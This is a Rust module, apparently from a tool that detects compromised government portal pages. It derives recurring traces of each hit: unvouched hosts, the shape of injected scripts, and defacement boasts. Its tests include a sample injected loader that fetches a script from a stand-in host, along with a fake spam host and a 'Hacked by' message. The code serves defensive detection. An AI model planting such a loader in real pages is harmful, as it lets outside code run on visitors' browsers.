//! What of a hit would be found again on another portal.

use super::{Hit, Proof, Rule, hidden_text, spam_text, whereabouts::is_platform};
use crate::{
    baseline::{Change, ChangeKind, Facet, shape_of},
    finding::{Signal, SignalKind, Trace},
    page::{Page, Spot},
};

/// Shorter code than this is the same by chance.
const SHORTEST_CODE: usize = 40;
/// Bytes of code that are read for its shape.
const LONGEST_CODE: usize = 256 * 1024;

/// Rules whose findings are about words, not about a place to which they lead.
const OF_WORDS: [&str; 2] = [hidden_text::RULE.id, spam_text::RULE.id];

/// What of a hit would be found again: the hosts for which nobody vouches, the code that did it, the
/// words. At most [`Trace::MOST`].
pub fn traces(rule: &Rule, hit: &Hit) -> Vec<Trace> {
    let hosts = hit.signals.iter().filter_map(host);
    let script = match &hit.proof {
        Proof::Element(page, spot) | Proof::Code(page, spot, _) => script(page, spot),
        Proof::Unpacked(page, spot, ..) => script(page, spot),
        Proof::Words(_) | Proof::Evidence(_) => None,
    };
    let boasts = hit.signals.iter().any(|signal| signal.kind == SignalKind::Boast);
    let words = match OF_WORDS.contains(&rule.id) {
        true => Trace::of_text(&hit.subject),
        false if boasts => Trace::of_boast(&hit.subject),
        false => None,
    };
    let mut traces: Vec<Trace> = script.into_iter().chain(words).chain(hosts).collect();
    traces.dedup();
    traces.truncate(Trace::MOST);
    traces
}

/// What of a change on which a rule hit would be found again, beside what its signals say.
pub fn traces_of_change(change: &Change) -> Vec<Trace> {
    let shown = change.after.as_deref().unwrap_or_default();
    let trace = match (change.kind, change.facet) {
        // The rule hits only hosts for which nobody vouches.
        (ChangeKind::InjectedLink, _) => {
            Some(&*change.value).filter(|host| !is_platform(host)).and_then(Trace::of_host)
        }
        (ChangeKind::HiddenBlock, _) => Trace::of_text(shown),
        (ChangeKind::NewScript | ChangeKind::ChangedScript, Some(Facet::Script)) => {
            change.digest.as_deref().map(Trace::of_script)
        }
        (ChangeKind::NewScript, Some(Facet::Inline)) if shown.len() >= SHORTEST_CODE => {
            Some(Trace::of_script(&change.value))
        }
        _ => None,
    };
    trace.into_iter().collect()
}

/// A host that the signals name; the names of whole kinds are no hosts, and on a platform everybody has
/// a page.
fn host(signal: &Signal) -> Option<Trace> {
    let is_host = signal.kind == SignalKind::Host && !is_platform(&signal.detail);
    Trace::of_host(&signal.detail).filter(|_| is_host)
}

/// Code of the page itself. Of data in script elements no place is known, and its shape says nothing.
fn script(page: &Page, spot: &Spot) -> Option<Trace> {
    let is_code = spot.tag == "script" && !spot.css.is_empty();
    let code = if is_code { page.code_at(spot).trim() } else { "" };
    let fits = (SHORTEST_CODE..=LONGEST_CODE).contains(&code.len());
    fits.then(|| Trace::of_script(&shape_of(code)))
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use url::Url;

    use super::*;
    use crate::{
        detect::{self, RULES},
        finding::{Trace, TraceKind},
        identity::Identity,
        page::{Loaded, Reader},
    };

    fn of(rule: &str, source: &str, signals: &[(SignalKind, &str)]) -> Vec<Trace> {
        let url = Url::parse("https://portal.gov.example/").unwrap();
        let page = Arc::new(Reader::new().read(source.into(), &url, &[], &Loaded::default()));
        let spot = page.scripts.first().map_or_else(|| page.first("title"), |own| own.spot.clone());
        let hit = Hit {
            key: String::new(),
            subject: "Hacked by Dark Knight".to_owned(),
            identity: Identity::Citizen,
            signals: signals.iter().map(|(kind, of)| Signal::new(*kind, *of)).collect(),
            proof: Proof::Element(page, spot),
        };
        traces(detect::rule(rule).unwrap(), &hit)
    }

    #[test]
    fn hosts_are_those_for_which_nobody_vouches_and_on_platforms_everybody_has_a_page() {
        let hosts = ["unvouched", "www.bet88.example", "sites.google.com"];
        let signals = hosts.map(|host| (SignalKind::Host, host));
        assert_eq!(of("spam-link", "", &signals), [Trace::of_host("bet88.example").unwrap()]);
        let many: Vec<String> = (0..100).map(|nth| format!("h{nth}.example")).collect();
        let many: Vec<_> = many.iter().map(|host| (SignalKind::Host, host.as_str())).collect();
        assert_eq!(of("spam-link", "", &many).len(), Trace::MOST);
    }

    #[test]
    fn code_is_the_same_under_other_names_and_texts_and_data_is_no_code() {
        let loader = |id: &str| {
            format!(
                "<body><script>var s=document.createElement('script');s.src='https://x.example/{id}';\
                 document.head.append(s)</script>"
            )
        };
        let one = of("injected-loader", &loader("a1"), &[]);
        assert_eq!((one.len(), one[0].kind), (1, TraceKind::Script));
        assert_eq!(one, of("injected-loader", &loader("zz"), &[]));
        assert_eq!(of("injected-loader", "<script>go()</script>", &[]), []);
    }

    #[test]
    fn whoever_boasts_is_known_by_the_name() {
        let boast = of("defaced-page", "<title>x</title>", &[(SignalKind::Boast, "hacked by")]);
        assert_eq!(boast, [Trace::of_boast("HACKED  BY dark knight").unwrap()]);
        assert_eq!(of("defaced-page", "<title>x</title>", &[(SignalKind::Staged, "effects")]), []);
        assert!(RULES.iter().filter(|rule| OF_WORDS.contains(&rule.id)).count() == 2);
    }
}
